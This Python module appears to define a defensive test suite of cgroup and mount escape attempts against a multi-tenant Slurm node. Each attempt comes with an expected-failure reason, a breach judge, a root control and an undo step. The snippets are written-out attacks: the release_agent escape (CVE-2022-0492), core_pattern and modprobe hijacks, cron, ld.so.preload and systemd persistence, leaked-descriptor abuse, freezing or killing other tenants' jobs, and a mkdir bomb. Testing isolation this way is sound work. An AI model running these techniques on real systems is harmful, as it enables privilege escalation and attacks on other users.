"""Leaving the tenant's group, changing its limits, touching another's."""

from attempt import Attempt

TITLE = "cgroups and mounts"

ROOTS_FILES = "Every file of the tree is root's, and Slurm delegates none"
USERNS_FILES = "A user namespace has no rights over files of users it does not map: the tree's owner is root outside"

JOIN_VICTIM = """
escapee
for group in "$VICTIM_LEAF" "$VICTIM_LEAF"/step_*/user/task_0 "$VICTIM_LEAF/tenantry" "$SCOPE/job_$VICTIM_JOB/tenantry"; do
  write $! "$group/cgroup.procs"
done
"""

SETTINGS = """
for group in "$TENANT" "$LEAF" "$MOUNT" "$LEAF"/step_batch "$LEAF"/step_batch/user "$LEAF"/step_batch/user/task_0; do
  for setting in memory.max=max memory.high=max pids.max=max cpu.max=max cpu.weight=10000 cpuset.cpus=0-1 io.max= \\
    memory.oom.group=0 cgroup.max.descendants=max cgroup.subtree_control=-memory; do
    write "${setting#*=}" "$group/${setting%%=*}" 2>/dev/null
  done
done | sort | uniq -c
tried "settings"
"""

# What the control changes must be taken back: by the values that the arena has seen before.
RESTORE_SETTINGS = """
grep '^tenant_initech' /root/escape/before | while IFS=' ' read -r file value; do
  file=$SCOPE/${file%:}
  now=; read -r now 2>/dev/null <"$file"
  [ "$now" = "$value" ] || echo "$value" >"$file"
done 2>/dev/null
true
"""

# Where Slurm puts the job's next step after all this. (A control is judged by the node's mounts alone.)
OWN_STEP_STAYS = """
if [ -z "$CONTROL" ]; then
  lab-as mallory "srun -Q --overlap --jobid=$MALLORY_JOB --mem=20M /host/escape/bin/escapee nextstep 20" >/dev/null 2>&1 &
  for _ in $(seq 80); do pgrep -x nextstep >/dev/null && break; sleep 0.1; done
  pgrep -x nextstep >/dev/null || breach "Slurm cannot start another step of the job"
  ( HOME_GROUP=${MALLORY_LEAF#/sys/fs/cgroup} moved nextstep ); rc=$?
  pkill -KILL -x nextstep; wait
  for _ in $(seq 50); do [ "$(ls -d "$MALLORY_LEAF"/step_* | wc -l)" = 2 ] && break; sleep 0.1; done
  [ $rc = 0 ] || exit $rc
fi
"""

ATTEMPTS = [
    Attempt(
        "join-other-tenant", "writes a process of its own into the other tenant's `cgroup.procs`",
        ROOTS_FILES + ".", JOIN_VICTIM, judge="moved", control="root"),
    Attempt(
        "join-other-tenant-userns", "the same as root of a user namespace",
        USERNS_FILES + ".", f"userns -m <<'END'\n{JOIN_VICTIM}\nEND", judge="moved",
        uncontrolled="judged as join-other-tenant is"),
    Attempt(
        "join-root", "writes itself into the root's, the slice's, the scope's and slurmd's own group",
        ROOTS_FILES + ".", """
escapee
for group in /sys/fs/cgroup /sys/fs/cgroup/system.slice/slurmd.service /sys/fs/cgroup/init.scope /sys/fs/cgroup/system.slice "$SCOPE" "$SCOPE/system"; do
  write $! "$group/cgroup.procs"
done""", judge="moved", control="root"),
    Attempt(
        "join-parent", "writes itself into its tenant's group, its job's, and the job's sentinel, beside what Slurm limits",
        ROOTS_FILES + "; and a group with controllers takes no processes, not even from root.", """
escapee
for group in "$TENANT" "$LEAF" "$LEAF/tenantry" "$MOUNT/tenantry" "$LEAF/step_extern/user/task_0"; do write $! "$group/cgroup.procs"; done""",
        judge="""
! pgrep -x escapee | grep -qxFf "$MALLORY_LEAF/tenantry/cgroup.procs" || breach "a process is in the job's sentinel group"
! pgrep -x escapee | grep -qxFf "$MALLORY_LEAF/step_extern/user/task_0/cgroup.procs" || breach "a process is in the extern step"
""", control="root"),
    Attempt(
        "join-by-thread", "moves one thread by `cgroup.threads`, and makes groups threaded by `cgroup.type`",
        ROOTS_FILES + ".", """
escapee
for group in "$VICTIM_LEAF/tenantry" "$LEAF/tenantry" "$LEAF/step_batch"; do
  write $! "$group/cgroup.threads"; write threaded "$group/cgroup.type"
done""", judge="moved", control="""
tried; mkdir "$SCOPE/system/threaded"; echo threaded > "$SCOPE/system/threaded/cgroup.type" """,
        undo='rmdir "$SCOPE/system/threaded"; echo domain > "$SCOPE/system/cgroup.type" 2>/dev/null; true'),
    Attempt(
        "born-elsewhere", "has a child born in another group by `clone3(CLONE_INTO_CGROUP)`",
        "The kernel asks for the right to write that group's `cgroup.procs`, which is root's.", """
for group in "$VICTIM_LEAF/tenantry" "$SCOPE/system" /sys/fs/cgroup/init.scope; do "$BIN/into_group" "$group"; done""",
        judge="moved", control="root"),
    Attempt(
        "reopened-descriptor", "opens `cgroup.procs` to read and reopens it by `/proc/self/fd`; has a set-uid program write to it (CVE-2021-4197)",
        "The kernel checks the file's mode at each open, and the opener's rights at each write.", """
escapee
"$BIN/reopen" "$VICTIM_LEAF/tenantry/cgroup.procs" "$!" """, judge="moved", control="root"),
    Attempt(
        "make-groups", "makes groups in its own step, its job, its tenant, the victim's job, the scope",
        ROOTS_FILES + ".", """
for group in "$LEAF/step_batch/user/task_0" "$LEAF" "$MOUNT" "$TENANT" "$VICTIM_LEAF" "$SCOPE" /sys/fs/cgroup; do
  mkdir "$group/mine" 2>&1 && write $$ "$group/mine/cgroup.procs"; tried "mkdir in $group"
done""", control="root", undo='find /sys/fs/cgroup -name mine -type d -delete'),
    Attempt(
        "remove-groups", "removes and renames groups of its job and of the victim's",
        ROOTS_FILES + "; cgroup v2 knows no rename.", """
for group in "$LEAF/tenantry" "$VICTIM_LEAF/tenantry" "$MOUNT" "$VICTIM_LEAF"; do
  rmdir "$group" 2>&1; mv "$group" "$group.gone" 2>&1; tried "rmdir and rename $group"
done""", control='tried; rmdir "$LEAF/tenantry"', undo='mkdir "$MALLORY_LEAF/tenantry"'),
    Attempt(
        "raise-own-limits", "raises or lifts the limits of its task, step, job and tenant, by the graft's path and by the real one",
        ROOTS_FILES + ".", SETTINGS, control="root", undo=RESTORE_SETTINGS),
    Attempt(
        "raise-own-limits-userns", "the same as root of a user, mount and cgroup namespace",
        USERNS_FILES + ".", f"userns -mC <<'END'\n{SETTINGS}\nEND", uncontrolled="judged as raise-own-limits is"),
    Attempt(
        "kill-or-freeze-others", "writes `cgroup.kill` and `cgroup.freeze` of the victim's job, of the scope and of the node",
        ROOTS_FILES + ".", """
for group in "$VICTIM_LEAF" "$VICTIM_TENANT" "$SCOPE/job_$VICTIM_JOB" "$SCOPE" /sys/fs/cgroup/system.slice; do
  write 1 "$group/cgroup.freeze"; write 1 "$group/cgroup.kill"
done""", judge="lives", control="tried; echo 1 > \"$VICTIM_LEAF/cgroup.freeze\"; sleep 0.3", undo='echo 0 > "$CAROL_LEAF/cgroup.freeze"; sleep 0.3'),
    Attempt(
        "own-and-reclaim", "takes groups over by `chown` and `chmod`; writes the victim's `memory.reclaim`, `memory.peak` and pressure triggers",
        ROOTS_FILES + ".", """
for group in "$VICTIM_LEAF" "$VICTIM_TENANT" "$LEAF"; do
  try chmod 666 "$group/memory.reclaim" "$group/cgroup.procs"; try chown mallory "$group"
  write 10M "$group/memory.reclaim"; write 0 "$group/memory.peak"; write 'some 500000 1000000' "$group/memory.pressure"
done""", judge="""
for file in memory.reclaim memory.peak memory.pressure; do
  [ "$(stat -c %u:%a "$CAROL_LEAF/$file")" != 0:666 ] || breach "$file may be written by anybody"
done
""", control="root", undo='chmod 644 "$CAROL_LEAF"/memory.reclaim "$CAROL_LEAF"/cgroup.procs "$CAROL_TENANT"/{memory.reclaim,cgroup.procs} "$MALLORY_LEAF"/{memory.reclaim,cgroup.procs}; chown root "$CAROL_LEAF" "$CAROL_TENANT" "$MALLORY_LEAF"'),
    Attempt(
        "mount-cgroup2", "mounts cgroup2 anew in user, mount and cgroup namespaces, where its own group is the root, and writes there",
        "`nsdelegate` and the files' owner: a new mount shows the same files, still root's.", """
userns -mC <<'END'
mkdir -p fs; mount -t cgroup2 none fs; tried "mount: $?"
for file in fs/memory.max fs/pids.max fs/cpu.max; do write max $file; done
escapee; write $! fs/cgroup.procs
mkdir fs/mine; write $! fs/mine/cgroup.procs
for up in fs/.. fs/../../../../..; do write $! $up/cgroup.procs; done
END""", judge="moved", control="""
tried; mkdir -p fs; mount -t cgroup2 none fs; escapee; echo $! > fs/system.slice/slurmd.service/cgroup.procs; umount fs"""),
    Attempt(
        "cgroup-mount-options", "remounts cgroup2 without `nsdelegate` and `memory_recursiveprot`, for the whole node",
        "Its options change only by a mount in the first cgroup namespace with CAP_SYS_ADMIN there.", """
userns -mC <<'END'
mkdir -p fs
for options in rw favordynmods memory_localevents; do mount -t cgroup2 -o $options none fs; tried "mount -o $options: $?"; umount fs; done
mount -o remount,rw /sys/fs/cgroup; tried "remount: $?"
END
mount -o remount,memory_localevents /sys/fs/cgroup; tried "remount without a namespace: $?" """,
        # The options of any mount of it are all mounts'.
        control="tried; mkdir -p fs; mount -t cgroup2 -o rw,nsdelegate none fs; umount fs", undo="mount -o remount,rw,nsdelegate,memory_recursiveprot /sys/fs/cgroup"),
    Attempt(
        "release-agent", "mounts a cgroup v1 hierarchy in a user namespace and sets its `release_agent` (CVE-2022-0492)",
        "The kernel asks for CAP_SYS_ADMIN of the first user namespace; sites boot with cgroup v2 alone.", """
printf '#!/bin/sh\\ntouch /run/escape-root\\n' > agent; chmod 755 agent
userns -mC <<'END'
mkdir -p v1
for kind in memory rdma misc cpu none,name=mine; do
  mount -t cgroup -o $kind none v1; tried "mount -t cgroup -o $kind: $?"
  mkdir v1/x; echo 1 > v1/x/notify_on_release; echo "$PWD/agent" > v1/release_agent; sh -c 'echo $$ > v1/x/cgroup.procs'
done
END
sleep 0.2""", uncontrolled="the lab's kernel is booted with cgroup_no_v1=all, so root cannot either"),
    Attempt(
        "usermode-helpers", "sets `core_pattern`, `modprobe` and other programs that the kernel runs as root outside every job",
        "These settings are root's, and no user namespace owns them.", """
for file in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sys/kernel/poweroff_cmd /sys/kernel/uevent_helper /proc/sys/fs/binfmt_misc/register; do
  write "|$WORK/agent" $file
done
userns -mpf --mount-proc <<'END'
for file in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sys/kernel/poweroff_cmd; do write "|$WORK/agent" $file; done
END""", control="tried; echo /tmp/escape > /proc/sys/kernel/poweroff_cmd", undo="echo /sbin/poweroff > /proc/sys/kernel/poweroff_cmd"),
    Attempt(
        "unmount-graft", "takes the graft's mount off, in the node's mount namespace and in one of its own",
        "Unmounting takes CAP_SYS_ADMIN over the namespace; what a new namespace inherits is locked and is no copy that Slurm uses.", """
umount "$MOUNT"; tried "umount: $?"; umount -l "$MOUNT"; tried "umount -l: $?"
userns -m <<'END'
umount "$MOUNT"; tried "umount in a namespace: $?"; umount -l /sys/fs/cgroup; tried "of the whole tree: $?"
mount -t tmpfs none "$MOUNT"; tried "over it: $?"; mount -t tmpfs none /sys/fs/cgroup; tried "over the tree: $?"
escapee
END""", judge="moved\n" + OWN_STEP_STAYS, control="tried; umount \"$MOUNT\"", undo='mount --bind "$MALLORY_LEAF" "$SCOPE/job_$MALLORY_JOB"'),
    Attempt(
        "cover-graft", "binds another group over the graft's mount point and makes the mounts shared, so that they reach the node",
        "A less privileged mount namespace only receives: nothing is propagated out of it.", """
userns -m --propagation unchanged <<'END'
mount --make-rshared / ; tried "make-rshared: $?"
mount --bind "$VICTIM_LEAF" "$MOUNT"; tried "bind the victim's over mine: $?"
mount --bind "$LEAF" "$SCOPE/job_$VICTIM_JOB"; tried "bind mine over the victim's: $?"
mkdir -p tree; mount --rbind / tree; tried "rbind: $?"
mount -t tmpfs none /run; tried "over /run: $?"; mkdir -p /run/tenantry/jobs; tried "a /run of its own: $?"
END""", judge=OWN_STEP_STAYS, control='tried; mount --bind "$VICTIM_LEAF" "$MOUNT"', undo='umount "$SCOPE/job_$MALLORY_JOB"'),
    Attempt(
        "pivot-root", "pivots into a root with a cgroup tree and a /run of its own, and starts Slurm's commands there",
        "Where a process is, is the kernel's business, not a path's; the node's own daemons see none of it.", """
userns -mC <<'END'
mkdir -p root; mount -t tmpfs none root; mkdir -p root/{usr,etc,proc,sys/fs/cgroup,run/tenantry,host,old,tmp}
for dir in usr etc proc host; do mount --rbind /$dir root/$dir; done
ln -s usr/bin root/bin; ln -s usr/lib root/lib; ln -s usr/lib64 root/lib64
mkdir root/sys/fs/cgroup/job; tried "mkdir"
cd root; /usr/sbin/pivot_root . old; tried "pivot_root: $?"
echo $$ > /sys/fs/cgroup/job/cgroup.procs; "$BIN/escapee" escapee 40 &
END
sleep 0.3""", judge="moved\n" + OWN_STEP_STAYS, uncontrolled="root cannot leave a group by a path either: that is the point"),
    Attempt(
        "by-proc-root", "reaches the tree, the records and the daemons by `/proc/PID/root` and `/proc/PID/cwd` of processes outside the job",
        "These links take the right to trace the process, which a user has over his own alone.", """
escapee
for pid in 1 "$VICTIM" "$STEPD" "$DAEMON" "$SLURMD"; do
  write $! "/proc/$pid/root/sys/fs/cgroup/init.scope/cgroup.procs"; write x "/proc/$pid/root/run/tenantry/x"
  cat "/proc/$pid/cwd/secret" "/proc/$pid/root/home/carol/secret"; tried "cwd of $pid"
done""", judge="moved; knows_secret", control="root", undo="rm -f /run/tenantry/x"),
    Attempt(
        "enter-namespaces", "enters the mount, pid, cgroup and user namespaces of init, of slurmstepd and of the victim",
        "setns wants CAP_SYS_ADMIN in the namespace's owner.", """
for pid in 1 "$STEPD" "$VICTIM"; do for ns in -m -p -C -U -i; do try nsenter -t "$pid" $ns true; done; done
userns -m <<'END'
for pid in 1 "$VICTIM"; do for ns in -m -p -C -U; do try nsenter -t "$pid" $ns touch /run/escape-root; done; done
END""", control="tried; nsenter -t 1 -m touch /run/escape-root", undo="rm -f /run/escape-root"),
    Attempt(
        "systemd-transient-unit", "asks systemd for a unit or scope outside the job: `systemd-run`, `StartTransientUnit`, `AttachProcessesToUnit`, a user manager",
        "systemd takes such calls from root alone, unless a site's polkit says otherwise (see below).", """
escapee; pid=$!
try timeout 3 systemd-run --no-ask-password "$BIN/escapee" escapee 40
try timeout 3 systemd-run --no-ask-password --scope "$BIN/escapee" escapee 1
try timeout 3 systemd-run --user --no-ask-password "$BIN/escapee" escapee 40
try timeout 3 busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager StartTransientUnit \\
  'ssa(sv)a(sa(sv))' escape.scope fail 1 PIDs au 1 $pid 0
try timeout 3 busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager AttachProcessesToUnit ssau system.slice / 1 $pid
XDG_RUNTIME_DIR=$PWD timeout 3 /usr/lib/systemd/systemd --user >/dev/null 2>&1 & sleep 0.5; tried "a user manager of its own"
""", judge="moved", control='tried; systemd-run -q "$BIN/escapee" escapee 20; sleep 0.2'),
    Attempt(
        "spooled-work", "leaves work for a spooler that runs it later, outside: cron, at, systemd units, udev rules, profile and preload files",
        "Those places are root's.", """
for file in /etc/cron.d/escape /etc/crontab /var/spool/cron/crontabs/mallory /var/spool/cron/atjobs/escape /etc/systemd/system/escape.service \\
  /run/systemd/system/escape.service /etc/udev/rules.d/escape.rules /etc/profile.d/escape.sh /etc/ld.so.preload /etc/tmpfiles.d/escape.conf /etc/slurm/escape.conf; do
  write "* * * * * mallory $BIN/escapee escapee 40" "$file"
done""", judge='! find /etc /run/systemd /var/spool -name "*escape*" | grep . || exit 10', control="""
tried; touch /etc/profile.d/escape.sh""", undo="rm -f /etc/profile.d/escape.sh"),
    Attempt(
        "leaked-descriptors", "looks for descriptors that slurmstepd left open to the job (CVE-2024-21626) and goes through them",
        "slurmstepd and the plugin open everything with close-on-exec.", """
for fd in /proc/self/fd/* /proc/$PPID/fd/*; do
  target=$(readlink "$fd"); tried "$fd -> $target"
  case $target in /sys/fs/cgroup*|/run/tenantry*|/var/lib/tenantry*|/) write $$ "$fd/cgroup.procs"; write $$ "$fd/../../cgroup.procs";; esac
done""", judge="""
[ -n "$CONTROL" ] && pids=$(pgrep -x escapee) || pids=$(cat "$MALLORY_LEAF"/step_batch/user/task_0/cgroup.procs)
for pid in $pids; do
  for fd in /proc/$pid/fd/*; do
    case $(readlink "$fd") in
      /sys/fs/cgroup* | /run/tenantry* | /var/lib/tenantry* | *bpf*) breach "process $pid holds $(readlink "$fd")" ;;
    esac
  done
done""", control='tried; "$BIN/escapee" escapee 20 7<"$SCOPE" & sleep 0.2'),
    Attempt(
        "mkdir-bomb", "makes 3000 groups wherever it may",
        ROOTS_FILES + "; `descendants_max` bounds what root's own daemons make.", """
python3 - "$LEAF/step_batch/user/task_0" "$LEAF" "$TENANT" <<'END'
import os, sys
for group in sys.argv[1:]:
    for i in range(1000):
        try: os.mkdir(f"{group}/bomb{i}")
        except OSError as error: print("tried:", error)
END""", judge="""
[ "$(find "$SCOPE" -name 'bomb*' | wc -l)" = 0 ] || breach "$(find "$SCOPE" -name 'bomb*' | wc -l) groups were made" """,
        control='tried; mkdir "$LEAF"/bomb{1,2,3}', undo='find "$SCOPE" -name "bomb*" -delete'),
    Attempt(
        "descendants-bound", "a tenant's tree grows past `descendants_max` (tried by root: a tenant may make no group at all)",
        "`cgroup.max.descendants` of the tenant's group.", "tried 'nothing: root tries, below'",
        judge="""
[ "$(cat "$MALLORY_TENANT/cgroup.max.descendants")" = 200 ] || breach "cgroup.max.descendants is $(cat "$MALLORY_TENANT/cgroup.max.descendants")"
for i in $(seq 250); do mkdir "$MALLORY_LEAF/bound$i" 2>/dev/null || break; done
made=$(find "$MALLORY_LEAF" -name 'bound*' | wc -l); find "$MALLORY_LEAF" -name 'bound*' -delete
[ "$made" -lt 200 ] || breach "$made groups were made" """, control="""
tried; echo max > "$TENANT/cgroup.max.descendants" """, undo='echo 200 > "$MALLORY_TENANT/cgroup.max.descendants"', needs="descendants"),
]
